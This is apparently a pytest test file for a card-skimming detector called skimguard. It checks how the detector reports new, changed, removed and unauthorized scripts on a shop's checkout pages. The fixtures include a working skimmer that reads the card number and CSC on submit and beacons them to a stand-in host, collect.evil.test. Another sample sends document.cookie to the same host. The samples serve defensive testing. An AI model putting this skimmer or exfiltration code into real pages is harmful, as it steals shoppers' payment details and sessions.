"""SG101-SG105, SG110: new, changed, removed and unauthorized scripts."""

from __future__ import annotations

import dataclasses
from collections.abc import Sequence

from skimguard.detect.scripts import ScriptChangeDetector
from skimguard.models import (
    Capture,
    ChangeRule,
    Confidence,
    Decision,
    Finding,
    MatchType,
    ScriptKind,
    script_url_key,
    sha256_hex,
)
from skimguard.testing.factories import (
    APP_JS,
    APP_URL,
    VENDOR_JS,
    VENDOR_URL,
    brief,
    cart_page,
    make_capture,
    make_context,
    make_decision,
    make_script,
    payment_page,
    replace_script_body,
    with_page,
)

VENDOR_KEY = script_url_key(VENDOR_URL)
APP_KEY = script_url_key(APP_URL)
PAY_URL = "http://shop.test/checkout/payment"
OLD_SHA = sha256_hex(VENDOR_JS.encode())

SKIMMER = (
    VENDOR_JS
    + """
(function () {
  document.getElementById('payment-form').addEventListener('submit', function () {
    var d = [document.getElementById('cc-number').value, document.getElementById('cc-csc').value].join('|');
    new Image().src = 'https://collect.evil.test/i.gif?d=' + btoa(d);
  });
})();
"""
)
# The same vendor code, re-minified and without its comments.
VENDOR_MIN = (
    "(function(w,d){function toHalfWidth(s){return s.replace(/[\\uFF10-\\uFF19]/g,function(c){return "
    "String.fromCharCode(c.charCodeAt(0)-0xFEE0)})}function attach(input){input.addEventListener('keyup',"
    'function(){input.value=toHalfWidth(input.value)})}var docs="https://docs.vendor.test/form-assist";'
    "d.querySelectorAll('input[data-assist]').forEach(attach);w.FormAssist={version:'1.4.2',docs:docs}})"
    "(window,document);"
)


def run(current: Capture, baseline: Capture | None = None, decisions: Sequence[Decision] = ()) -> list[Finding]:
    ctx = make_context(current, baseline=make_capture() if baseline is None else baseline, decisions=decisions)
    return list(ScriptChangeDetector().run(ctx))


def tampered() -> Capture:
    return replace_script_body(make_capture(), VENDOR_URL, SKIMMER)


def test_clean_against_itself_finds_nothing() -> None:
    assert run(make_capture()) == []


def test_no_baseline_no_change_findings() -> None:
    ctx = make_context(tampered(), baseline=None)
    assert list(ScriptChangeDetector().run(ctx)) == []


def test_vendor_script_with_new_bytes_on_the_card_page() -> None:
    findings = run(tampered())
    assert brief(findings) == [("SG102", "high", "payment", VENDOR_KEY)]
    f = findings[0]
    assert f.confidence is Confidence.HIGH
    assert f.destination == "collect.evil.test"
    assert f.script_url == VENDOR_URL
    assert f.evidence["new_hosts"] == ["collect.evil.test"]
    assert f.evidence["old_sha256"] == OLD_SHA
    assert f.evidence["new_sha256"] == sha256_hex(SKIMMER.encode())
    assert {"new Image", "btoa", "addEventListener('submit')", "card field .value"} <= f.evidence[
        "suspicious_calls"
    ].keys()
    assert f.evidence["added_lines"] == 6 and f.evidence["removed_lines"] == 0
    assert "+new Image().src = 'https://collect.evil.test/i.gif?d=' + btoa(d)" in f.evidence["diff"]
    assert (
        f.title
        == "Script content changed: https://cdn.vendor.test/form-assist/v1/assist.js (new hosts: collect.evil.test)"
    )


def test_changed_script_off_the_card_page_is_medium() -> None:
    current = replace_script_body(make_capture(), APP_URL, APP_JS + "\nfetch('https://x.test/a');")
    assert brief(run(current)) == [
        ("SG102", "medium", "cart", APP_KEY),
        ("SG102", "high", "payment", APP_KEY),
    ]


def test_reminified_same_code_is_silent() -> None:
    assert run(replace_script_body(make_capture(), VENDOR_URL, VENDOR_MIN)) == []


def test_new_cache_buster_same_bytes_is_silent() -> None:
    assert run(replace_script_body(make_capture(), VENDOR_URL, VENDOR_JS, new_url=VENDOR_URL + "?v=20240501")) == []


def test_missing_body_still_reports_the_change() -> None:
    current = tampered()
    current = dataclasses.replace(current, bodies={k: v for k, v in current.bodies.items() if v != SKIMMER.encode()})
    findings = run(current)
    assert brief(findings) == [("SG102", "high", "payment", VENDOR_KEY)]
    assert findings[0].confidence is Confidence.MEDIUM
    assert findings[0].evidence["diff_unavailable"] == "new script body not available: content not compared"


def test_unreadable_script_is_compared_by_size_only() -> None:
    def unread(size: int) -> Capture:
        page = payment_page()
        vendor = dataclasses.replace(page.scripts[1], sha256=None, size=size)
        return make_capture([cart_page(), dataclasses.replace(page, scripts=(page.scripts[0], vendor))])

    assert run(unread(9_000_000), baseline=unread(9_000_000)) == []
    findings = run(unread(9_000_123), baseline=unread(9_000_000))
    assert brief(findings) == [("SG102", "high", "payment", VENDOR_KEY)]
    assert findings[0].confidence is Confidence.LOW
    assert (findings[0].evidence["old_size"], findings[0].evidence["new_size"]) == (9_000_000, 9_000_123)


def test_new_external_script() -> None:
    extra = make_script("https://cdn.chat.test/widget.js", "chat()", frame_url=PAY_URL)
    page = payment_page()
    current = with_page(make_capture(), dataclasses.replace(page, scripts=(*page.scripts, extra)))
    cart = cart_page()
    current = with_page(current, dataclasses.replace(cart, scripts=(*cart.scripts, extra)))
    findings = run(current)
    assert brief(findings) == [
        ("SG101", "medium", "cart", "https://cdn.chat.test/widget.js"),
        ("SG101", "high", "payment", "https://cdn.chat.test/widget.js"),
    ]
    assert findings[0].evidence["url"] == "https://cdn.chat.test/widget.js"


def test_new_inline_script() -> None:
    inline = make_script(None, "window.__x = document.forms[0];", frame_url=PAY_URL)
    page = payment_page()
    current = with_page(make_capture(), dataclasses.replace(page, scripts=(*page.scripts, inline)))
    findings = run(current)
    assert brief(findings) == [("SG104", "medium", "payment", inline.key)]
    assert findings[0].evidence["kind"] == "inline"


def test_new_inline_script_off_the_card_page_is_low() -> None:
    inline = make_script(None, "console.log(1)", frame_url="http://shop.test/cart")
    cart = cart_page()
    current = with_page(make_capture(), dataclasses.replace(cart, scripts=(*cart.scripts, inline)))
    assert brief(run(current)) == [("SG104", "low", "cart", inline.key)]


def _with_inline(body: str) -> Capture:
    page = payment_page()
    inline = make_script(None, body, frame_url=PAY_URL)
    return make_capture([cart_page(), dataclasses.replace(page, scripts=(*page.scripts, inline))], bodies=[body])


def test_inline_script_reformatted_is_silent() -> None:
    assert run(_with_inline("var a = 1;\n// note\n"), baseline=_with_inline("var a=1;")) == []


def test_inline_script_replaced_is_reported_with_a_diff() -> None:
    old_body = "var cfg = {psp: 'https://pay.psp.test'};"
    new_body = old_body + "\nnavigator.sendBeacon('https://collect.evil.test/b', document.cookie);"
    findings = run(_with_inline(new_body), baseline=_with_inline(old_body))
    new_key = f"inline:{sha256_hex(new_body.encode())}"
    old_key = f"inline:{sha256_hex(old_body.encode())}"
    assert brief(findings) == [("SG104", "medium", "payment", new_key), ("SG103", "low", "payment", old_key)]
    diff = findings[0].evidence["diff"]
    assert findings[0].evidence["replaces"] == old_key
    assert diff["new_hosts"] == ["collect.evil.test"]
    assert diff["suspicious_calls"] == {"sendBeacon": 1, "document.cookie": 1}


def test_new_dynamic_script() -> None:
    dyn = make_script(
        None, "eval(atob('YWxlcnQoMSk='))", kind=ScriptKind.DYNAMIC, frame_url=PAY_URL, initiator=VENDOR_URL
    )
    page = payment_page()
    current = with_page(make_capture(), dataclasses.replace(page, scripts=(*page.scripts, dyn)))
    findings = run(current)
    assert brief(findings) == [("SG105", "medium", "payment", dyn.key)]
    assert findings[0].evidence["initiator"] == VENDOR_URL


def test_removed_script_is_low() -> None:
    page = payment_page()
    current = with_page(make_capture(), dataclasses.replace(page, scripts=page.scripts[:1]))
    findings = run(current)
    assert brief(findings) == [("SG103", "low", "payment", VENDOR_KEY)]


def test_page_missing_this_time_is_not_a_flood_of_removals() -> None:
    assert run(make_capture([cart_page()])) == []


# ---- inventory authorization --------------------------------------------------------------


def test_hash_approval_of_the_new_bytes_silences_the_change() -> None:
    d = make_decision(sha256_hex(SKIMMER.encode()), match=MatchType.HASH)
    assert [f for f in run(tampered(), decisions=(d,)) if f.rule_id != "SG110"] == []


def test_url_allow_silences_the_change() -> None:
    d = make_decision(VENDOR_KEY, change_rule=ChangeRule.ALLOW)
    findings = run(tampered(), decisions=(d,))
    assert brief(findings) == [("SG110", "info", "cart", APP_KEY), ("SG110", "info", "payment", APP_KEY)]


def test_pattern_review_reports_low_with_the_diff() -> None:
    d = make_decision(
        "https://cdn.vendor.test/form-assist/*",
        match=MatchType.PATTERN,
        change_rule=ChangeRule.REVIEW,
        pinned_sha256=OLD_SHA,
    )
    findings = [f for f in run(tampered(), decisions=(d,)) if f.rule_id != "SG110"]
    assert brief(findings) == [("SG102", "low", "payment", VENDOR_KEY)]
    assert findings[0].evidence["authorization"]["status"] == "changed"
    assert findings[0].evidence["new_hosts"] == ["collect.evil.test"]


def test_pin_with_other_bytes_is_normal_severity_and_unauthorized() -> None:
    d = make_decision(VENDOR_KEY, change_rule=ChangeRule.PIN, pinned_sha256=OLD_SHA)
    findings = run(tampered(), decisions=(d,))
    assert brief(findings) == [
        ("SG102", "high", "payment", VENDOR_KEY),
        ("SG110", "info", "cart", APP_KEY),
        ("SG110", "info", "payment", APP_KEY),
        ("SG110", "info", "payment", VENDOR_KEY),
    ]
    assert findings[0].evidence["authorization"] == {
        "status": "unapproved",
        "reason": f"URL pinned to {OLD_SHA[:12]}…, now bytes {sha256_hex(SKIMMER.encode())[:12]}… (decision 1)",
        "decision": 1,
    }


def test_pin_with_the_same_bytes_is_authorized() -> None:
    d = make_decision(VENDOR_KEY, change_rule=ChangeRule.PIN, pinned_sha256=OLD_SHA)
    assert brief(run(make_capture(), decisions=(d,))) == [
        ("SG110", "info", "cart", APP_KEY),
        ("SG110", "info", "payment", APP_KEY),
    ]


def test_revoked_approval_does_not_authorize() -> None:
    d = make_decision(VENDOR_KEY, change_rule=ChangeRule.ALLOW, revoked=True)
    findings = run(tampered(), decisions=(d,))
    assert [b for b in brief(findings) if b[0] == "SG102"] == [("SG102", "high", "payment", VENDOR_KEY)]
    assert ("SG110", "info", "payment", VENDOR_KEY) in brief(findings)


def test_approved_new_external_script_is_silent() -> None:
    extra = make_script("https://cdn.vendor.test/form-assist/v1/extra.js", "x()", frame_url=PAY_URL)
    page = payment_page()
    current = with_page(make_capture(), dataclasses.replace(page, scripts=(*page.scripts, extra)))
    d = make_decision("https://cdn.vendor.test/*", match=MatchType.PATTERN, change_rule=ChangeRule.ALLOW)
    assert [f for f in run(current, decisions=(d,)) if f.rule_id != "SG110"] == []


def test_decisions_of_other_sites_do_not_count() -> None:
    d = make_decision(VENDOR_KEY, change_rule=ChangeRule.ALLOW, site="other")
    assert brief(run(tampered(), decisions=(d,))) == [("SG102", "high", "payment", VENDOR_KEY)]
